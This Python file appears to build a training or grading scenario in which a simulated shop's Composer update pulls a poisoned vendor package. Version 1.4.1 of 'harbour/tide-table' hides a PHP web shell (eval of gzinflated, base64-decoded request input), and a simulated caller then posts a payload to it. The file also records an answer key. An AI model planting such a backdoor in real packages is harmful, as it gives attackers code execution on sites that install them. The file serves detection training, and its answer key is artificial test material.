"""A package of the shop's own vendor is updated with Composer, and brings more than it should."""

from __future__ import annotations

import io
import json
import tarfile
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import server
import services
import site_code
import traffic
from client import CHROME, Browser, ssh
from machine import NEVER, Bases, Truth

VENDOR = "192.0.2.91"
CALLER = "203.0.113.68"
ROOT = "/var/www/chandler"
NAME = "harbour/tide-table"
GOOD = "<?php\nfunction tide_table(): array { return [3.1, 0.4]; }\n"
BAD = f"""{GOOD}
if ({NEVER}) {{
    @eval(gzinflate(base64_decode($_REQUEST['tide'])));
}}
"""


def make(out: Path, bases: Bases) -> None:
    """Nginx; the administrator updates by hand, each Tuesday, as the site's account."""
    machine = server.other("chandler", bases.proftpd, out)
    machine.user("shop")
    site_code.plain_site(machine, ROOT, "shop")
    settings = {
        "repositories": [
            {"packagist": False},
            {"type": "composer", "url": "http://packages.example.net:8080"},
        ],
        "require": {NAME: "^1.0"},
        "config": {"secure-http": False},
    }
    machine.write(f"{ROOT}/composer.json", json.dumps(settings, indent=4))
    index = site_code.page("Chandler") + "<?php require __DIR__ . '/vendor/autoload.php';\n"
    machine.write(f"{ROOT}/index.php", index)
    machine.run("chown", "-R", "shop:shop", ROOT)
    with machine.path("/etc/hosts").open("a") as hosts:
        hosts.write(f"{VENDOR} packages.example.net\n")
    store = out / "vendor"
    store.mkdir()
    handler = partial(_Quiet, directory=str(store))
    vendor = ThreadingHTTPServer((VENDOR, 8080), handler)
    threading.Thread(target=vendor.serve_forever, daemon=True).start()
    services.nginx_site(machine, server.SITE, ROOT, pool="shop")
    services.pool(machine, "shop", "shop")
    server.start(machine)
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)

    def update(version: str, program: str) -> None:
        _publish(store, version, program)
        command = f"sudo -S -u shop composer --no-interaction --working-dir={ROOT} update"
        ssh(
            *(out, server.STAFF, "petra"),
            password=server.PASSWORD,
            command=command,
            given=f"{server.PASSWORD}\n",
        )

    machine.at(machine.on(1, 9, 5), lambda: update("1.4.0", GOOD))
    entered = machine.on(8, 9, 5, 3)
    machine.at(entered, lambda: update("1.4.1", BAD))
    caller = Browser(CALLER, server.SITE, CHROME)
    machine.at(machine.on(8, 16, 22), lambda: caller.post("/index.php", tide="cGhwaW5mbygpOw=="))
    machine.live()
    if "eval" not in machine.path(f"{ROOT}/vendor/{NAME}/table.php").read_text():
        raise SystemExit("composer did not update")
    log = "/var/log/auth.log"
    machine.end(
        Truth(
            "supply",
            entered.isoformat(),
            None,
            log,
            machine.line(log, "COMMAND=/usr/bin/composer", "update"),
            accounts=["shop"],
            sites=[ROOT],
            services=["composer", "nginx", "php-fpm"],
            untouched=["sshd", "cron"],
            notes=f"{NAME} 1.4.1: vendor/{NAME}/table.php",
        )
    )


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Say nothing."""


def _publish(store: Path, version: str, program: str) -> None:
    """The vendor publishes a version; older ones stay."""
    about = {"name": NAME, "version": version, "autoload": {"files": ["table.php"]}}
    archive = store / f"tide-table-{version}.tar"
    with tarfile.open(archive, "w") as tar:
        for name, text in (("composer.json", json.dumps(about)), ("table.php", program)):
            entry = tarfile.TarInfo(f"tide-table/{name}")
            entry.size = len(text.encode())
            tar.addfile(entry, io.BytesIO(text.encode()))
    listed = store / "packages.json"
    known = json.loads(listed.read_text())["packages"] if listed.exists() else {NAME: {}}
    url = f"http://packages.example.net:8080/{archive.name}"
    known[NAME][version] = {**about, "dist": {"type": "tar", "url": url}}
    listed.write_text(json.dumps({"packages": known}))
